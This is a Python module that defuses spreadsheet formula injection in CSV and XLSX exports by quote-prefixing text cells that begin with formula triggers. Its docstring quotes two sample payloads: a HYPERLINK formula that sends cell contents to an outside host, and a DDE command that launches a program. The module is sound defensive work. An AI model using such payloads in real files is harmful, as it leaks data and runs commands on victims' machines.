"""Spreadsheet formula injection, neutralised in every CSV and XLSX export.

A post title like `=HYPERLINK("http://x/?"&A1,"klik")` or `@SUM(1+1)*cmd|'/c calc'!A0` is
scraped text; opened in Excel or LibreOffice it would run as a formula. OWASP's CSV injection
guidance: in CSV, a text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets
a leading single quote, which spreadsheets show as text and never evaluate.

Numbers stay numbers: only text cells are touched, and a text cell that is a plain number
(`-12`, `+62`, `-0,5`) is not a formula and is left alone, so a negative count or a phone
number reads the same. In XLSX every text cell is written as a string, never as a formula
(openpyxl would otherwise store any text starting with `=` as one), with the quote-prefix
style that keeps it text when someone edits the cell.

JSON exports are for programs, not spreadsheets, and carry the text unchanged.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import BinaryIO

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number, optionally signed, with '.' or ',' decimals: a value, not a formula.
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def neutralise(value):
    """A cell value safe to open in a spreadsheet: text starting with a formula trigger is
    prefixed with a single quote; anything else is returned unchanged."""
    if not isinstance(value, str) or not value.startswith(TRIGGERS):
        return value
    if PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell neutralised (numbers, booleans, dates untouched)."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise).astype(object)
    return out


def write_xlsx(frame: pd.DataFrame, target: str | Path | BinaryIO, sheet_name: str = "data") -> None:
    """Write `frame` as XLSX with no formula cells: text stays text, whatever it starts with.

    The text is written as it is (no visible quote): a string cell is never evaluated, and the
    quote-prefix style keeps a trigger-led cell text when someone edits it.
    """
    with pd.ExcelWriter(target, engine="openpyxl") as writer:
        frame.to_excel(writer, index=False, sheet_name=sheet_name)
        for row in writer.sheets[sheet_name].iter_rows():
            for cell in row:
                if cell.data_type == "f":  # openpyxl took text starting with '=' for a formula
                    cell.data_type = "s"
                if cell.data_type == "s" and isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    cell.quotePrefix = True
